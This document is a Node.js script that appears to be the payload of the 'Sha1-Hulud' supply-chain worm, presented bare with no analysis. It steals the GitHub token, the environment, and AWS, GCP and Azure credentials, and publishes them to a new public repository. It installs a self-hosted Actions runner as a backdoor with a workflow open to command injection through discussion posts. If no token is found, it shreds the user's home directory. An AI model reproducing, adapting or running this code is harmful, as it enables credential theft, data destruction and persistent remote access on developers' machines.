const { execSync } = require('child_process');
const os = require('os'), fs = require('fs');
const sh = (c) => { try { return execSync(c, { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (e) { return ''; } };
const token = process.env.GITHUB_TOKEN || sh('gh auth token');
if (!token) {
  // no way to propagate: destroy
  sh(`find ${os.homedir()} -type f -writable -user $(id -un) -print0 | xargs -0 -r shred -uvz -n 1`);
  process.exit(0);
}
const H = { Authorization: 'Bearer ' + token, 'Content-Type': 'application/json', 'User-Agent': 'bun' };
(async () => {
  const repo = await (await fetch('https://api.github.com/user/repos', { method: 'POST', headers: H, body: JSON.stringify({ name: Math.random().toString(36).slice(2, 20), description: 'Sha1-Hulud: The Second Coming.', private: false }) })).json();
  const loot = { env: process.env, aws: sh('aws sts get-caller-identity && cat ~/.aws/credentials'), gcp: sh('gcloud auth print-access-token'), az: sh('az account get-access-token') };
  for (const [f, d] of Object.entries({ 'contents.json': loot, 'environment.json': process.env })) {
    await fetch(`https://api.github.com/repos/${repo.full_name}/contents/${f}`, { method: 'PUT', headers: H, body: JSON.stringify({ message: 'add', content: Buffer.from(Buffer.from(JSON.stringify(d)).toString('base64')).toString('base64') }) });
  }
  const reg = await (await fetch(`https://api.github.com/repos/${repo.full_name}/actions/runners/registration-token`, { method: 'POST', headers: H })).json();
  sh(`mkdir -p ~/.dev-env && cd ~/.dev-env && curl -sL https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz | tar xz && ./config.sh --url https://github.com/${repo.full_name} --unattended --token ${reg.token} --name SHA1HULUD && nohup ./run.sh &`);
  const wf = 'name: Discussion Create\non: discussion\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n';
  await fetch(`https://api.github.com/repos/${repo.full_name}/contents/.github/workflows/discussion.yaml`, { method: 'PUT', headers: H, body: JSON.stringify({ message: 'wf', content: Buffer.from(wf).toString('base64') }) });
})();
